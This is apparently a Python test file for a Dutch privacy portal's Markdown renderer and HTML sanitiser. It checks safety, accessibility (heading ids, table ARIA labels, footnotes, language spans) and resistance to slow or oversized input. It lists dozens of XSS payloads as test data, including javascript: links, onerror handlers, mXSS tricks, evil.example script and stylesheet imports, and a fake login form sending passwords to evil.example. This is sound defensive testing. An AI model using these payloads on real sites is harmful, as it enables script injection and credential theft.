"""Markdown in, HTML out that is safe, accessible and quick, with the sanitiser as second fence."""

import itertools
import time
from functools import cache

import html5lib
import pytest

from privacyportal.core.markdown import (
    MAX_LENGTH,
    Heading,
    TextTooLong,
    check_markdown,
    headings_in,
    images_in,
    links_in,
    plain_text,
    render_markdown,
    table_of_contents,
)
from privacyportal.core.markdown.sanitiser import sanitised

TAGS = {
    "p",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "hr",
    "dl",
    "dt",
    "dd",
    "div",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "img",
    "em",
    "strong",
    "s",
    "code",
    "br",
    "sup",
    "span",
}
ATTRIBUTES = {
    "href",
    "title",
    "id",
    "src",
    "alt",
    "start",
    "class",
    "rel",
    "role",
    "tabindex",
    "scope",
    "aria-label",
    "lang",
}
ATTRIBUTES |= {"lang"}
ADDRESSES = ("https://", "http://", "mailto:", "tel:", "#", "/")

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https://x' onclick=alert(1) target=_blank>x</a>",
    "<a id=login name=login href=#x>x</a>",
    "<div class='site-header' style='position:fixed'>x</div>",
    "<div role=alert tabindex=5>x</div>",
    "<template><script>alert(1)</script></template>",
    "<xss onmouseover=alert(1)>x</xss>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<img src='https://volger.example/pixel.png'>",
    "<img src='/media/../account/uitloggen'>",
]
MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.nl "\\" onmouseover=alert(1) \\"")',
    "[x](https://a.nl '\"><script>alert(1)</script>')",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://volger.example/pixel.png)",
    "![x](//volger.example/pixel.png)",
    "![x](/account/uitloggen)",
    "![x](/media/../account/uitloggen)",
    "![x](/media/%2e%2e/account/uitloggen)",
    '![" onerror=alert(1) x="](/media/a.png)',
    "![x](/media/a.png '\" onerror=alert(1)')",
    "# <img src=x onerror=alert(1)>",
    '# " onmouseover=alert(1) x="',
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "``<script>alert(1)</script>``",
    "```<script>alert(1)</script>\nx\n```",
    '```" onclick=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "Term\n: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "\u2028<script>alert(1)</script>\u2029\x00<script\x00>alert(1)</script>",
]


def parsed(html):
    """Every element as (tag, attributes), read as a browser reads it."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [(element.tag, dict(element.attrib)) for element in tree.iter() if element is not tree]


def assert_harmless(html):
    for tag, attributes in parsed(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert attributes.get("href", "/").startswith(ADDRESSES)
        assert not attributes.get("href", "/").startswith(("//", "/\\", "/\t"))
        assert attributes.get("src", "/media/").startswith("/media/")
        assert ".." not in attributes.get("src", "")
        assert attributes.get("id", "tekst-").startswith("tekst-")


@pytest.fixture(autouse=True)
def media(settings):
    settings.MEDIA_URL = "/media/"


@pytest.mark.parametrize("vector", HTML_VECTORS + MARKDOWN_VECTORS)
def test_nothing_that_was_typed_runs(vector):
    for text in (vector, f"Tekst {vector} tekst", f"> - {vector}", f"**{vector}**"):
        assert_harmless(render_markdown(text))
        assert_harmless(render_markdown(text, as_typed=True))


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_the_sanitiser_alone_holds(vector):
    assert_harmless(sanitised(vector, "tekst-"))


def test_html_is_shown_as_it_was_typed():
    assert render_markdown("<b>vet</b>") == "<p>&lt;b&gt;vet&lt;/b&gt;</p>\n"


def test_ordinary_text_becomes_ordinary_html():
    text = "Dit is **vet**, *schuin* en ~~weg~~.\n\n1. een\n2. twee\n\n> citaat\n\nTerm\n: uitleg\n\n---\n\n`code`"
    assert render_markdown(text) == (
        "<p>Dit is <strong>vet</strong>, <em>schuin</em> en <s>weg</s>.</p>\n"
        "<ol>\n<li>een</li>\n<li>twee</li>\n</ol>\n"
        "<blockquote>\n<p>citaat</p>\n</blockquote>\n"
        "<dl>\n<dt>Term</dt>\n<dd>uitleg</dd>\n</dl>\n<hr>\n<p><code>code</code></p>\n"
    )


def headings(html):
    return [(tag, attributes["id"]) for tag, attributes in parsed(html) if tag[0] == "h" and tag != "hr"]


def test_a_heading_of_the_first_level_moves_the_whole_text_down():
    assert headings(render_markdown("# Een\n\n## Twee")) == [("h2", "tekst-een"), ("h3", "tekst-twee")]
    assert headings(render_markdown("## Een\n\n### Twee")) == [("h2", "tekst-een"), ("h3", "tekst-twee")]


def test_no_level_of_heading_is_skipped():
    tags = [tag for tag, _ in headings(render_markdown("#### Diep\n\n###### Dieper\n\n## Weer boven\n\n##### Diep"))]
    assert tags == ["h2", "h3", "h2", "h3"]


def test_headings_of_a_post_start_where_the_page_says():
    html = render_markdown("# Een\n\n## Twee", id_prefix="reactie-7-", top_level=4)
    assert headings(html) == [("h4", "reactie-7-een"), ("h5", "reactie-7-twee")]


def test_ids_of_headings_are_unique_readable_and_stable():
    text = "## Wat is één DPIA?\n\n## Wat is een DPIA\n\n## 個人情報\n\n## Wat is een DPIA 2\n\n## " + "lang " * 50
    ids = [identifier for _, identifier in headings(render_markdown(text))]
    assert ids[:4] == ["tekst-wat-is-een-dpia", "tekst-wat-is-een-dpia-2", "tekst-deel", "tekst-wat-is-een-dpia-2-2"]
    assert len(ids[4]) < 80
    assert ids == [identifier for _, identifier in headings(render_markdown(text))]


def test_the_contents_list_the_h2_headings_with_their_ids():
    text = "## Wat *is* een `DPIA` & <b>\n\n### Dieper\n\n> ## In een citaat\n\n## Wat is een DPIA & b"
    contents = table_of_contents(text)
    assert contents == [
        Heading("tekst-wat-is-een-dpia-b", "Wat is een DPIA & <b>"),
        Heading("tekst-wat-is-een-dpia-b-2", "Wat is een DPIA & b"),
    ]
    assert {heading.id for heading in contents} <= {identifier for _, identifier in headings(render_markdown(text))}


def test_a_table_scrolls_in_a_box_that_has_a_name_and_the_keyboard_can_reach():
    elements = parsed(render_markdown("| a | b | |\n|:--|--:|:-:|\n| 1 | 2 | 3 |\n\n## Kop\n\n| c |\n|---|\n| 4 |"))
    boxes = [attributes for tag, attributes in elements if tag == "div"]
    assert boxes == [
        {"class": "table-scroll table-scroll--wide", "tabindex": "0", "role": "region", "aria-label": "Tabel 1"},
        {"class": "table-scroll", "tabindex": "0", "role": "region", "aria-label": "Tabel 2: Kop"},
    ]
    assert [attributes["aria-label"] for tag, attributes in elements if tag == "table"] == ["Tabel 1", "Kop"]
    assert [attributes for tag, attributes in elements if tag == "th"] == [
        {"scope": "col", "class": "align-left"},
        {"scope": "col", "class": "align-right"},
        {"scope": "row", "class": "align-left"},
        {"scope": "col"},
    ]  # the empty header cell is an ordinary cell, and so is the only cell of a row
    assert [attributes.get("class") for tag, attributes in elements if tag == "td"] == [
        "align-center",
        "align-right",
        "align-center",
        None,
    ]


def test_a_table_of_more_columns_than_fit_a_phone_says_that_it_scrolls():
    tables = [f"{'| a ' * columns}|\n{'|---' * columns}|\n{'|   ' * columns}|" for columns in (2, 3)]
    html = [render_markdown(table) for table in tables]
    assert ["table-scroll--wide" in one for one in html] == [False, True]
    assert not any('scope="row"' in one for one in html)  # an empty cell names no row


def test_tables_of_two_posts_on_a_page_have_different_names():
    html = render_markdown("| a |\n|---|\n| 1 |", table_label="Reactie 7, tabel")
    assert 'aria-label="Reactie 7, tabel 1"' in html


def test_a_footnote_leads_there_and_back():
    html = render_markdown("Zie[^a] en nog eens[^a].\n\n[^a]: De noot.", id_prefix="reactie-7-")
    links = [(a["href"], a.get("id"), a["aria-label"]) for tag, a in parsed(html) if tag == "a"]
    there, back = "reactie-7-noot.1", "reactie-7-noot.1.terug"
    assert links == [
        (f"#{there}", back, "Voetnoot 1"),
        (f"#{there}", None, "Voetnoot 1"),
        (f"#{back}", None, "Terug naar voetnoot 1 in de tekst"),
    ]
    assert [a["id"] for tag, a in parsed(html) if tag == "li"] == [there]


def test_links_go_to_the_web_to_mail_to_telephones_and_within_the_site():
    text = "[a](https://www.vng.nl/) [b](/producten/) [c](mailto:a@b.nl) [d](tel:0701234567) [e](#kop)\n\n## Kop"
    assert [attributes for tag, attributes in parsed(render_markdown(text)) if tag == "a"] == [
        {"href": "https://www.vng.nl/", "rel": "nofollow noopener noreferrer"},
        {"href": "/producten/"},
        {"href": "mailto:a@b.nl"},
        {"href": "tel:0701234567"},
        {"href": "#tekst-kop"},
    ]


def test_a_link_elsewhere_becomes_its_text():
    assert render_markdown("Zie [**deze** site](ftp://x.nl).") == "<p>Zie <strong>deze</strong> site.</p>\n"


def test_an_image_of_ours_is_shown_and_another_becomes_its_description():
    text = "![Schema](/media/images/a.png) ![Een *foto*](https://volger.example/a.png)"
    assert render_markdown(text) == '<p><img src="/media/images/a.png" alt="Schema"> Een foto</p>\n'


@pytest.mark.parametrize("media_url", ["/", "", "https://cdn.example/"])
def test_without_a_folder_for_images_none_is_shown(settings, media_url):
    settings.MEDIA_URL = media_url
    assert "<img" not in render_markdown(f"![{media_url}](/media/a.png) ![x](https://cdn.example/a.png)")


def test_plain_text_is_what_a_reader_sees():
    text = "## Kop & co\n\nEen [link](https://x.nl) met\n**vet**[^1] ![foto](/media/a.png).\n\n| a | b |\n|---|---|\n"
    text += "| 1 | `2` |\n\n```\ncode\n```\n\n[^1]: Noot <b>"
    assert plain_text(text).split("\n") == [
        "Kop & co",
        "Een link met vet foto.",
        "a",
        "b",
        "1",
        "2",
        "code",
        "Noot <b>",
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a" * (MAX_LENGTH + 120), "Uw tekst is te lang: haal 120 tekens weg."),
        ("a\n" * 30_000, "Uw tekst heeft te veel regels. Haal lege en korte regels weg."),
        ("[" * 30_000, "Uw tekst heeft te veel rechte haken. Haal er een aantal weg."),
    ],
)
@pytest.mark.parametrize("read", [render_markdown, table_of_contents, plain_text, check_markdown])
def test_a_text_that_is_too_much_is_refused_with_a_sentence(read, text, message):
    with pytest.raises(TextTooLong) as refused:
        read(text)
    assert refused.value.messages == [message]


ORDINARY = "## Kop\n\nEen **vette** zin met een [link](https://vng.nl/).\n\n- een\n- twee\n\n"
HOSTILE = {
    "brackets": "[",
    "images": "![",
    "open links": "[a](",
    "open footnotes": "[^",
    "footnotes": "[^a]",
    "emphasis": "*a **b ",
    "underscores": "a_",
    "backticks": "`a``b```c",
    "quotes": "> ",
    "lists": "- ",
    "html": "<a ",
    "entities": "&#1;",
    "tables": "|a|b|\n|-|-|\n",
    "definitions": "a\n: b\n\n",
    "headings": "# a\n",
    "titles": '[a]: /u "',
    "strikes": "~~a ",
    "escapes": "\\",
    "brackets and links": "[[](",
    "wide words": "**你",
    "web addresses": "https://a.nl ",
    "closing brackets": "https://a))))",
    "half addresses": "www.a'a@",
    "dotted names": "a@b.b.",
    "bullets": "• a\n",
    "lists that end": "- a\nb\n2) c\n",
}
BUILT = {
    "one address used often": "[a]: /" + "u" * 90_000 + "\n\n" + "[a]" * 19_000,
    "a wide table": "|a" * 30_000 + "|\n" + "|-" * 30_000 + "|\n" + "x\n" * 19_000,
    "deep emphasis": "*" * 90_000 + "a" + "*" * 90_000,
    "deep lists": "".join(" " * (2 * depth) + "- a\n" for depth in range(400)),
    "footnotes after a definition": "[^x]: y\n\n" + "[^" * 19_000,
}


def accepted(unit):
    """As much of this as we accept."""
    text = unit * (MAX_LENGTH // len(unit))
    for character, most in (("\n", 20_000), ("[", 20_000)):
        if text.count(character) > most:
            text = unit * (most // unit.count(character))
    return text


def rendered(text, **options):
    """The HTML and the seconds of processor time that it took."""
    start = time.process_time()
    return render_markdown(text, **options), time.process_time() - start


@cache
def cost_of_ordinary_text(part):
    """Seconds for this part of the longest text of plain headings, sentences, links and lists: on a slow machine more."""
    return rendered(part_of(accepted(ORDINARY), part))[1]


def part_of(text, part):
    return text[: len(text) // part]


@pytest.mark.parametrize("part", [4, pytest.param(1, marks=pytest.mark.deep)])
@pytest.mark.parametrize("as_typed", [False, True])
@pytest.mark.parametrize(
    "text", itertools.chain(map(accepted, HOSTILE.values()), BUILT.values()), ids=[*HOSTILE, *BUILT]
)
def test_any_accepted_text_costs_about_what_an_ordinary_one_does_and_stays_small(text, as_typed, part):
    text = part_of(text, part)
    html, cost = rendered(text, as_typed=as_typed)  # the worst takes three times as much; read again and again, hours
    assert cost < 8 * cost_of_ordinary_text(part)
    assert len(html) < 21 * len(text) + 50_000


OPEN_BRACKETS = ["![" * 5_000, "[" * 10_000, "![" * 5_000 + "]", "[^" * 4_000 + "]", "[`]`" * 2_500, "[\\]" * 3_000]


@pytest.mark.parametrize("as_typed", [False, True])
@pytest.mark.parametrize("text", OPEN_BRACKETS, ids=[text[:4] + text[-1] for text in OPEN_BRACKETS])
def test_brackets_that_cost_more_than_their_length_are_refused_and_shown_as_typed_where_they_already_stand(
    text, as_typed
):
    with pytest.raises(TextTooLong, match="haken die niet sluiten"):
        check_markdown(text, as_typed=as_typed)
    assert render_markdown(text, as_typed=as_typed) == f"<pre><code>{text}</code></pre>"
    assert plain_text(text, as_typed=as_typed) == text
    assert table_of_contents(text) == links_in(text) == images_in(text) == headings_in(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "[1] " * 2_000,
        "- [ ] taak [uitleg](/hulp/)\n" * 400,
        "Zie [[1]](/a/) en [^1].\n\n" * 300 + "[^1]: Noot",
        'Een lijst als ["a", [1, [2]]]. ' * 300,
        ":[ " * 20,
    ],
)
def test_brackets_as_people_use_them_are_welcome(text):
    check_markdown(text)
    check_markdown(text, as_typed=True)
    assert "<pre>" not in render_markdown(text)


def test_a_small_text_cannot_become_a_huge_page():
    text = "|a" * 1_600 + "|\n" + "|-" * 1_600 + "|\n" + "x\n" * 1_700
    html = render_markdown(text)
    assert html.startswith("<pre><code>|a|a")
    assert len(html) < 2 * len(text)


def test_emphasis_stops_at_a_depth():
    html = render_markdown("*a **b " * 100 + "b** a*" * 100)
    assert html.count("<em>") + html.count("<strong>") == 20
    assert plain_text("*a " * 50 + "*" * 50).count("a") == 50  # the words stay


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("De [data protection officer]{lang=en}.", '<p>De <span lang="en">data protection officer</span>.</p>'),
        ("[**vet**]{lang=en-GB}", '<p><span lang="en-GB"><strong>vet</strong></span></p>'),
        ("[a [b]{lang=fr} c]{lang=en}", '<p><span lang="en">a <span lang="fr">b</span> c</span></p>'),
        ("[[a](/b)]{lang=en}", '<p><span lang="en"><a href="/b">a</a></span></p>'),
        ("[[a]{lang=en}](/b)", '<p><a href="/b"><span lang="en">a</span></a></p>'),
        (
            "[de [a]{lang=en}, [**b**]{lang=fr}](/b)",
            '<p><a href="/b">de <span lang="en">a</span>, <span lang="fr"><strong>b</strong></span></a></p>',
        ),
        ("[[a]{lang=en}]{lang=fr}", '<p><span lang="fr"><span lang="en">a</span></span></p>'),
        ("[x [[a](/b)]{lang=en}](/c)", '<p>[x <span lang="en"><a href="/b">a</a></span>](/c)</p>'),
        ("[[a]{lang=en}][b]\n\n[b]: /b", '<p><a href="/b"><span lang="en">a</span></a></p>'),
        ("## [Kop]{lang=en}", '<h2 id="tekst-kop"><span lang="en">Kop</span></h2>'),
        ("[a]{lang=en onclick=x}", "<p>[a]{lang=en onclick=x}</p>"),
        ("[a]{lang=Engels}", "<p>[a]{lang=Engels}</p>"),
        ("[]{lang=en}", "<p>[]{lang=en}</p>"),
        ("[a](/b){lang=en}", '<p><a href="/b">a</a>{lang=en}</p>'),
        ("`[a]{lang=en}`", "<p><code>[a]{lang=en}</code></p>"),
    ],
)
def test_words_in_another_language_say_so(text, html):
    assert render_markdown(text).strip() == html


def test_what_is_marked_as_another_language_is_read_without_its_signs():
    assert plain_text("De [data protection officer]{lang=en} helpt.") == "De data protection officer helpt."
    assert "{lang=" in render_markdown("[a]{lang=en}", as_typed=True)  # members write as in a mail
